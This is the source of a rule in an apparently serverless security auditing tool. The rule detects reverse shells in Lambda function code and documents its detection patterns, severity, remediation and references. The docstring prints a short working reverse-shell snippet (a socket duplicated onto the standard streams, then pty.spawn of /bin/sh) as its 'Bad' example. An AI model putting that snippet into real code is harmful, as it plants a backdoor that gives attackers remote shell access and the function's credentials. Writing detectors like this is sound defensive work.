"""CODE020: a network socket wired to a shell's standard streams (a reverse shell) in the function's code."""

from __future__ import annotations

from collections.abc import Iterator

from fnaudit.findings import Category, Hit, Severity
from fnaudit.model.app import App
from fnaudit.model.facts import Fact
from fnaudit.rules.code._common import unclaimed_hits
from fnaudit.rules.registry import Context, rule

_FIX = (
    "Remove the code: nothing in a Lambda function needs a shell on a socket. Find how it got there "
    "(a dependency, a build step, a leftover debugging helper), rotate the credentials of the function's role, "
    "and review CloudTrail for what the role did."
)


@rule(
    "CODE020",
    "reverse-shell",
    title="A socket is wired to a shell (reverse shell) in the function's code",
    category=Category.INJECTION,
    severity=Severity.CRITICAL,
    cwe=(506,),
    owasp=("SAS-6",),
    references=("https://attack.mitre.org/techniques/T1059/004/",),
    needs=(Fact.CODE,),
)
def reverse_shell(app: App, ctx: Context) -> Iterator[Hit]:
    """## What it finds

    Code that connects a network socket to a shell's standard streams, in any file of the function's
    module graph (no event data needed: the shape is the finding):

    - Python: `os.dup2(s.fileno(), 0)` on a socket (`socket.socket()`, `socket.create_connection()`)
      with a shell started in the same file (`pty.spawn("/bin/sh")`, `subprocess.call(["/bin/sh",
      "-i"])`), or a shell subprocess given `stdin=s.fileno()` / `stdout=s.fileno()`;
    - JavaScript / TypeScript: a shell spawned (`child_process.spawn("/bin/sh")`) and a socket
      (`new net.Socket()`, `net.connect`, `tls.connect`) piped to it (`client.pipe(sh.stdin)`,
      `sh.stdout.pipe(client)`).

    ## When it speaks

    - **Speaks when**: a text check of every file of the function's module graph (never run) finds both halves
      of a reverse shell in one file. Python: a socket (`socket.socket(...)`, `socket.create_connection(...)`,
      also in a `with`) whose `fileno()` is duplicated onto the standard streams (`os.dup2(s.fileno(), 0)`)
      while the file starts a shell (`pty.spawn("/bin/sh")`, `subprocess.*(["/bin/sh", …])`, `os.system("sh")`),
      or given as `stdin=`/`stdout=`/`stderr=` of a subprocess that runs a shell. JavaScript/TypeScript: a
      `net`/`tls` socket piped to a spawned shell (`sock.pipe(sh.stdin)`, `sh.stdout.pipe(sock)`) or given as
      its `stdio`. Always critical, whatever the trigger: no event data is needed.
    - **Evidence**: the message names the function and the line that wires the streams; the evidence says how
      (`socket s duplicated onto the standard streams (os.dup2) and a shell started`). One finding per file.
    - **Stays quiet**: a socket and a shell that are not wired together in one file (an HTTP client next to a
      `subprocess` call with pipes of its own); shells run by name other than
      sh/bash/zsh/dash/ksh/cmd/powershell.

    ## Why it matters

    This is a backdoor: whoever listens on the other end gets a shell inside the function, with its
    role's credentials in the environment, its network position and its data. It is what an attacker
    plants through a compromised dependency or build, and it has no legitimate use in a function.

    ## How to fix

    Remove it, find how it got in (dependency, build step, leftover debugging code), rotate the role's
    credentials, and review what the role did (CloudTrail).

    ## Example

    Bad:

    ```python
    s = socket.create_connection((HOST, 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/sh")
    ```

    Good: no such code. A function that must talk to a host over TCP sends and reads data on the
    socket and never hands it to a process.

    ## References

    - CWE-506: Embedded Malicious Code
    - MITRE ATT&CK T1059.004: Command and Scripting Interpreter: Unix Shell
    - OWASP Serverless Top 10, SAS-6 Insecure Third-Party Dependencies
    """
    for fn in app.functions:
        if fn.code_facts is None:
            continue
        for p in fn.code_facts.weaknesses:
            if p.kind != "reverse-shell":
                continue
            yield Hit(
                p.loc,
                f"function {fn.name}: reverse shell at line {p.loc.line}: {p.detail}",
                function=fn.id,
                evidence=p.detail,
                remediation=_FIX,
                key=f"reverse-shell:{p.loc.path}",
            )
    yield from unclaimed_hits(app, ctx, reverse_shell, Severity.CRITICAL)  # code no function claims
